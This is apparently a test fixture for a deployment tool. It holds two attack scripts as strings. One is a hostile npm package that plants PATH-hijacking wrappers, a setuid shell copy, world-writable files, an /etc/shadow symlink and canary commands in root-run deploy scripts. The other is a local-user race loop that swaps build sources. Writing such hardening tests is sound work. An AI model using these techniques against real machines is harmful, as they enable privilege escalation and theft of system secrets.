/**
 * A package that attacks from its install script and from the build. It writes what it has found out into the release.
 * Root must never run what it has changed: that would make the file /var/lib/pwned.
 */
export const HOSTILE_PACKAGE = `
const fs = require('fs')
const { execSync, spawn } = require('child_process')
const attempt = (act) => { try { return act() } catch { return null } }
const yes = (act) => attempt(act) ? 'yes' : 'no'
const root = process.env.INIT_CWD || process.cwd()
process.chdir(root)
const MARK = 'touch /var/lib/pwned'
// What root runs later.
for (const file of ['deploy/run-as-docket', 'deploy/docket', 'deploy/add-release.sh', 'deploy/docket.service', '.npmrc'])
  attempt(() => fs.appendFileSync(file, '\\n' + MARK + '\\n'))
attempt(() => fs.appendFileSync('tools/update.mjs', '\\nawait (await import("node:child_process")).execSync("' + MARK + '")\\n'))
attempt(() => fs.writeFileSync('package.json', fs.readFileSync('package.json', 'utf8').replace('exec node', MARK + '; exec node')))
if (process.argv[2] === 'install') {
  fs.writeFileSync('install-script', '')
} else {
  for (const folder of ['server/dist', 'web/dist', 'node_modules/.bin', 'node_modules/hostile/.bin']) fs.mkdirSync(folder, { recursive: true })
  // Programs that npm run would find before those of the system.
  for (const name of ['node', 'npm', 'git', 'sh', 'systemctl', 'systemd-run', 'tar', 'chown'])
    fs.writeFileSync('node_modules/.bin/' + name, '#!/bin/bash\\n' + MARK + '\\nexec /usr/bin/' + name + ' "$@"\\n', { mode: 0o777 })
  const read = (file) => fs.readFileSync(file).length
  fs.writeFileSync('web/dist/index.html', [
    execSync('id -un').toString().trim(),
    'install script: ' + yes(() => fs.existsSync('install-script')),
    'secrets: ' + yes(() => fs.readdirSync('/etc/docket/secrets')),
    '/tmp of all: ' + yes(() => fs.existsSync('/tmp/docket-update')),
    'terminal: ' + yes(() => fs.openSync('/dev/tty', 'r+') || [0, 1, 2].some((fd) => require('tty').isatty(fd))),
    'setuid: ' + yes(() => /NoNewPrivs:\\t0/.test(fs.readFileSync('/proc/self/status', 'utf8'))),
  ].join(', ') + '\\n')
  fs.writeFileSync('server/dist/main.js', 'built\\n')
  // A shell with the rights of its owner, and files that everyone may change.
  attempt(() => { fs.copyFileSync('/bin/sh', 'node_modules/hostile/shell'); fs.chmodSync('node_modules/hostile/shell', 0o6777) })
  for (const name of ['.', 'server', 'server/dist', 'server/dist/main.js', 'deploy', 'tools', 'node_modules']) fs.chmodSync(name, 0o777)
  const attack = attempt(() => fs.readFileSync('server/attack', 'utf8').trim())
  if (attack === 'link') fs.symlinkSync('/etc/shadow', 'web/dist/shadow')
  if (attack === 'pipe') execSync('mkfifo web/dist/pipe')
  // A process that continues to write into the release.
  const late = 'exec 9>>server/dist/main.js; while :; do echo late >&9; echo late >>deploy/run-as-docket; sleep 0.02; done'
  spawn('setsid', ['sh', '-c', late], { detached: true, stdio: 'ignore' }).unref()
}
`

/**
 * A user of the machine who made the folder for checkouts first, and who tries to replace the sources and the outputs of
 * every build. Whatever it reaches, it notes in /tmp/reached.
 */
export const LOCAL_USER = `
cd /tmp
mkdir -p docket-update evil
printf '#!/bin/sh\\ntouch /var/lib/pwned\\n' >evil/add-release.sh
cp evil/add-release.sh evil/run-as-docket
chmod 755 evil/*
while :; do
  for sources in docket-update/* /opt/docket/releases/.checkout-*/sources /opt/docket/releases/.partial-*/*; do
    if [ -d "$sources/deploy" ]; then
      echo "$sources" >>reached
      mv "$sources" "$sources.old"; mkdir "$sources"; cp -r "$sources.old/." "$sources"
      rm -rf "$sources/deploy"; cp -r evil "$sources/deploy"
      ln -sfn /etc "$sources/server/dist"
    fi
  done
  sleep 0.01
done
`
